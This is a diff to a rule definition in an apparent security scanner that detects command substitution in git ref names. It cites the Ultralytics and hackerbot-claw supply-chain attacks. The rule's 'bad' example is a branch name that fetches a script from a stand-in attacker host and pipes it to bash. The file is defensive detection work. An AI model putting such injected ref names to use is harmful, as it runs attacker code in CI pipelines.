@@ -7,8 +7,7 @@ export const meta: RuleMeta = {
   id: 'CG-REF-001',
   title: 'Command substitution in a ref name',
   severity: 'critical',
-  description:
-    `The name contains $( … ), a backtick pair or <( … ): any script or workflow that interpolates it into a shell (echo "\${{ github.head_ref }}", git pull origin $BRANCH) runs the command. This is how the Ultralytics (2024) and hackerbot-claw (2026) attacks worked; git accepts such names.`,
+  description: `The name contains $( … ), a backtick pair or <( … ): any script or workflow that interpolates it into a shell (echo "\${{ github.head_ref }}", git pull origin $BRANCH) runs the command. This is how the Ultralytics (2024) and hackerbot-claw (2026) attacks worked; git accepts such names.`,
   remediation: 'delete the ref (git push origin --delete NAME); in workflows pass ref names through env: and quote them ("$HEAD_REF")',
   example: {bad: 'main$(curl -sSfL evil.example/p|bash)', good: 'feature/JIRA-123-login'},
   examples: {
